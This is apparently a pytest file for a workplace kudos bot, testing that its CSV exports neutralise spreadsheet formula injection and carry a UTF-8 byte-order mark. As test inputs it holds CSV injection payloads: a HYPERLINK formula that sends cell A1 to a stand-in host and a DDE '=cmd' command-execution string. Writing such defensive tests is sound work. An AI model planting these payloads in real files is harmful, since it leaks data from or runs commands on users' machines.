"""Every CSV we write opens in a spreadsheet as text: a kudos reason, a name or a team typed
as `=HYPERLINK(…)` is not run as a formula there."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date

import pytest

from bot.digests.csv import lists_csv, summary_csv
from bot.digests.summary import Shoutout
from bot.runtime.cli.export import COLUMNS, write
from bot.spreadsheet import cell
from tests.domain.digests.test_render import long_week

# Nothing here depends on the database: the PostgreSQL pass of scripts/test skips it.
pytestmark = pytest.mark.database_independent

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+1", "-2+3", "@SUM(A1)", "\r=1"]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(typed: str) -> None:
    assert cell(typed) == "'" + typed


def test_a_formula_behind_a_tab_is_text_where_the_tab_splits_cells() -> None:
    """LibreOffice with tab ticked as a separator reads `=1` as a cell of its own."""
    assert cell("\t=1") == "'\t'=1"


@pytest.mark.parametrize("value", ["thanks for =all", "R&D", "", 7, -3, 2.5, True])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    assert cell(value) == value


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_digest_csv_quotes_what_people_typed() -> None:
    """A shout-out's reason and giver, and a quiet person's name, as typed by anyone."""
    week = dataclasses.replace(
        long_week(1),
        shoutouts=(
            Shoutout(
                receiver="@ben",
                giver="=cmd|' /C calc'!A0",
                message='=HYPERLINK("http://x.example","more")',
                values=("teamwork",),
                given_on=date(2026, 11, 18),
            ),
        ),
        quiet=(("-Quiet", None),),
    )
    shoutout = rows(summary_csv(week))[1]
    assert shoutout[1:4] == [
        "'@ben",
        "'=cmd|' /C calc'!A0",
        '\'=HYPERLINK("http://x.example","more")',
    ]
    assert any(row[1].startswith("'-Quiet") for row in rows(lists_csv(week))[1:])


def test_the_kudos_export_quotes_what_people_typed_and_keeps_numbers() -> None:
    out = io.StringIO()
    row = dict.fromkeys(COLUMNS, "") | {
        "message": "+1 for the fix",
        "values": ["x"],
        "is_private": False,
    }
    write([row], "csv", out)
    written = dict(zip(COLUMNS, rows(out.getvalue())[1], strict=True))
    assert written["message"] == "'+1 for the fix" and written["is_private"] == "False"


def test_every_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8() -> None:
    """Excel on Windows opens a .csv without a UTF-8 byte-order mark, by a double-click, in
    the machine's code page: "Zoë Núñez" read "ZoÃ« NÃºÃ±ez" in every CSV askaround wrote
    (the digest's, `insights.csv`, `askaround export kudos` and `askaround report`)."""
    week = long_week(1)
    out = io.StringIO()
    write([], "csv", out)
    for text in (summary_csv(week), lists_csv(week), out.getvalue()):
        assert text.startswith("\ufeff") and text.count("\ufeff") == 1
        assert next(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[0].isascii()
